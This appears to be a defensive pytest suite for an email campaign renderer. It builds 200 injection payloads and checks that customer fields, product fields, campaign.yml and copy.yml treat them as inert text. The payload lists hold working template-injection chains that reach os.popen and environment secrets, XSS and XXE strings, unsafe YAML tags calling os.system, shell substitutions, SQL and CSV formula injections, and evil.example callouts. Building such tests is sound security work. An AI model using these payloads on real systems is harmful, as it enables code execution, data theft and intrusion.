"""Two hundred known ways to make a template engine, a parser or a shell run what somebody typed: through every field that a
customer or a product can fill, and through every key of campaign.yml and copy.yml that takes text."""

import itertools
import json
import os
import shutil
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import Any, get_type_hints

import pytest

from campaigns import gallery
from campaigns.copy_candidates import load_candidates
from campaigns.definitions import TEMPLATES, Campaign, load_campaign
from campaigns.facts import Facts, Product, clean_facts, name_or_none
from campaigns.render import render
from campaigns.templates import NOWHERE, Template, compile_template
from core.errors import CampaignInvalid
from tests.campaigns.test_render import Page

SECRET = "not-for-readers"
TOUCH = "touch CANARY"

SYNTAX = [
    "{{ %s }}", "{{ %s | safe }}", "{{{ %s }}}", "{%% print %s %%}", "{%% set x = %s %%}{{ x }}", "{# %s #}",
    "{%% raw %%}{{ %s }}{%% endraw %%}", "${ %s }", "${{ %s }}", "#{ %s }", "*{ %s }", "<%%= %s %%>", "@( %s )", "[[ %s ]]",
    "%%( %s )s", "$!{ %s }", "{{= %s }}", "<#assign x=%s>${x}", "~{ %s }", "\x1b{{ %s }}",
]  # fmt: skip
"""Of Jinja and Twig, Mustache, JSP and Java EL, Ruby, Thymeleaf, ERB, Razor, Angular, Python, Velocity, doT, FreeMarker."""
ASKS = [
    "7 * 1337", "self.__init__.__globals__", "cycler.__init__.__globals__.os.popen('touch CANARY').read()",
    "lipsum.__globals__['os'].environ", "().__class__.__mro__[1].__subclasses__()", "link.__self__.addresses",
]  # fmt: skip
OF_JINJA = [
    "{{ ''['__class__']['__base__']['__subclasses__']() }}", "{{ request['application']['__globals__'] }}",
    "{{ ''|attr('__class__')|attr('__mro__') }}", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{{ config.items() }}",
    "{{ namespace.__init__.__globals__.os.environ }}", "{{ joiner.__init__.__globals__.os.getenv('LAPWING_TOKEN_KEY') }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}{{ os.environ }}", "{% extends '/etc/passwd' %}", "{{ _.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ gettext.__self__ }}", "{{ products.clear() }}",
    "{% macro m() %}{{ caller }}{% endmacro %}{{ m.__init__ }}", "{{ '%s' | format(brand) }}", "{{ '{0.__class__}'.format(brand) }}",
    "{% filter upper %}{{ unsubscribe_url }}{% endfilter %}", "{{ brand.update({'name': 'x'}) }}", "{{ ngettext('a', 'b', 'c') }}",
]  # fmt: skip
OF_MARKUP = [
    "<mj-include path='/etc/passwd' />", "<mj-include path=\"../../.env\" />", "<mj-raw><script>alert(1)</script></mj-raw>",
    "</mj-text><mj-button href='https://evil.example'>Go</mj-button>", "<mj-style>body{background:url(//evil.example)}</mj-style>",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>x</a>", "<!--[if mso]><v:rect/><![endif]-->", "--><iframe src=//evil.example>", "]]><b>x</b>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "&lt;script&gt;", "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<form action=//evil.example><input>",
    "<math><mtext></mtext></math>", "</title><script>1</script>", "<?php system('touch CANARY'); ?>", "<?xml-stylesheet href='x'?>",
    "<!--#exec cmd='touch CANARY' -->", "<esi:include src='http://evil.example/' />",
]  # fmt: skip
OF_YAML = [
    "!!python/object/apply:os.system ['touch CANARY']", "!!python/object/new:os.system ['touch CANARY']", "!!python/name:os.system",
    "!!python/module:os", "!!python/object/apply:subprocess.check_output [['touch', 'CANARY']]", "!!python/tuple [a, b]",
    "!!python/object/apply:builtins.eval [\"open('CANARY', 'w')\"]", "!ruby/object:Gem::Installer {i: x}", "!!javax.script.ScriptEngineManager []",
    "!!binary aGk=", "!!set {a, b}", "&a [*a]", "*unknown", "<<: {owner: evil}", "? - a", "{a: b}", "[a, b]", "| \n  x", "%TAG ! tag:evil,2000:",
    "--- !x", "!<tag:yaml.org,2002:python/object/apply:os.getenv> ['LAPWING_TOKEN_KEY']", "!!js/function 'function(){}'",
]  # fmt: skip
OF_OTHERS = [
    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY;", "| touch CANARY", "&& touch CANARY", "${jndi:ldap://127.0.0.1/a}",
    "'); drop table sends; --", "' or '1'='1", "=cmd|'/c touch CANARY'!A1", "@SUM(1+1)*cmd|' /C touch CANARY'!A0", "Ada\r\nBcc: eve@evil.example",
    "Ada%0d%0aBcc: eve@evil.example", "=?utf-8?q?=0d=0aBcc:_eve=40evil.example?=", "../../../../etc/passwd", "file:///etc/passwd",
    "%s%s%s%n", "%(unsubscribe_url)s", "\u202e{{ 7 * 1337 }}",
]  # fmt: skip
PAYLOADS = [syntax % asks for syntax, asks in itertools.product(SYNTAX, ASKS)][: 200 - 85]
PAYLOADS += OF_JINJA + OF_MARKUP + OF_YAML + OF_OTHERS
MAILS = ["picked_for_you", "winback/care"]
LEAKED = (
    SECRET,
    "9359",
    "<class",
    "Undefined",
    "juniper.example'",
    "LinkAddresses",
    "root:x:",
)


@pytest.fixture(autouse=True)
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Run where every file that appears is one that a payload made, with a secret to find; and look for both."""
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("LAPWING_TOKEN_KEY", SECRET)
    before = environment()
    yield
    assert not list(Path().iterdir())
    assert environment() == before


def environment() -> dict[str, str]:
    return {name: value for name, value in os.environ.items() if name != "PYTEST_CURRENT_TEST"}


def test_there_are_200_payloads_and_more_than_one_of_each_kind():
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 200
    assert sum(TOUCH in payload for payload in PAYLOADS) > 20


def texts_of(kind: type, example: dict[str, Any]) -> set[str]:
    """Return the fields of a part of the facts that hold a text: those that the schema names, and those of the example."""
    declared = {name for name, hint in get_type_hints(kind).items() if hint in (str, str | None)}
    return declared | {name for name, value in example.items() if isinstance(value, str)}


def shown(template: Template, facts: dict[str, Any]) -> str:
    """Return all that a mail of these facts says, or why there is none."""
    try:
        found = render(template, json.dumps(facts), "en", NOWHERE)
    except CampaignInvalid as error:
        return str(error)
    assert "\n" not in found.subject + found.preheader
    return found.subject + found.preheader + found.html + found.text


@pytest.mark.parametrize("place", MAILS)
def test_what_a_customer_or_product_is_called_is_shown_and_never_run(place):
    campaign_id, _, step = place.partition("/")
    template, facts = compile_template(campaign_id, step=step), gallery.example(campaign_id, step)
    product = facts["products"][0]
    fields, of_product = texts_of(Facts, facts), texts_of(Product, product)
    assert fields >= {"first_name"}
    assert of_product >= {
        "product_id",
        "name",
        "category",
        "size",
        "currency",
        "url",
        "reason",
        "reason_product_name",
    }
    for payload in PAYLOADS:
        assert name_or_none(payload) is None  # no greeting with it
        everything = [shown(template, facts | {field: payload}) for field in sorted(fields)]
        for field in sorted(of_product):
            everything.append(shown(template, facts | {"products": [product | {field: payload}]}))
        assert not [word for word in LEAKED if word in "".join(everything)], payload


@pytest.mark.parametrize("place", [*MAILS, "greeting"])
def test_a_name_that_is_markup_is_text_and_adds_no_element(place):
    campaign_id, _, step = place.partition("/")
    template, facts = compile_template(campaign_id, step=step), gallery.example(campaign_id, step)
    product = facts["products"][0]

    def mail(name: str) -> str:
        named = product | {"name": name, "category": name, "size": name, "brand": name}
        return render(template, facts | {"first_name": name, "products": [named]}, "en", NOWHERE).html

    plain = Page(mail("(plain)")).tags
    for payload in PAYLOADS:
        html = mail(payload)
        assert Page(html).tags == plain, payload
        text = clean_facts({"products": [product | {"name": payload}]})["products"][0]["name"][
            :60
        ]  # longer ones are cut
        assert str(escape(text)).replace("&#x27;", "&#39;").replace("&quot;", "&#34;") in html, payload


TEXT_KEYS = ["campaign_id", "title", "description", "owner", "holdout_key", "exit_when", "steps"]


@pytest.mark.parametrize("key", TEXT_KEYS)
def test_what_campaign_yml_says_is_text_or_a_mistake(key, tmp_path):
    others = {name: hint for name, hint in get_type_hints(Campaign).items() if name not in TEXT_KEYS}
    assert not [name for name, hint in others.items() if "str" in str(hint)], (
        "a key that takes text is not tried"
    )
    home = shutil.copytree(TEMPLATES / "restock", tmp_path / "restock")
    file = home / "campaign.yml"
    rest = "".join(
        line for line in file.read_text().splitlines(keepends=True) if not line.startswith(f"{key}:")
    )
    for payload in PAYLOADS:
        for value in (payload, json.dumps(payload)):
            lists = {"exit_when": f"[{value}]", "steps": f"[{{name: {value}}}]"}
            file.write_text(f"{rest}{key}: {lists.get(key, value)}\n", encoding="utf-8")
            try:
                found = getattr(load_campaign(home), key)
            except CampaignInvalid as error:
                found = str(error)
            else:
                assert isinstance(found, str)
                assert (
                    found == payload.strip() or value == payload
                )  # YAML's own quotes and comments are no payload
            assert SECRET not in found


def test_what_copy_yml_says_is_text_or_a_mistake(tmp_path):
    home = shutil.copytree(TEMPLATES / "restock", tmp_path / "restock")
    taken, refused = 0, list[str]()
    for payload, slot in itertools.product(PAYLOADS, ("subject", "lead")):
        for value in (payload, json.dumps(payload)):
            (home / "copy.yml").write_text(f"{slot}:\n  tried: {value}\n", encoding="utf-8")
            try:
                [candidate] = load_candidates("restock", tmp_path)
            except CampaignInvalid as error:
                refused.append(str(error))
            else:
                taken += 1
                [sentence] = candidate.sentences
                assert not set("{}<>&\\") & set(sentence.text)
    assert 0 < taken < len(refused)
    assert SECRET not in "".join(refused)
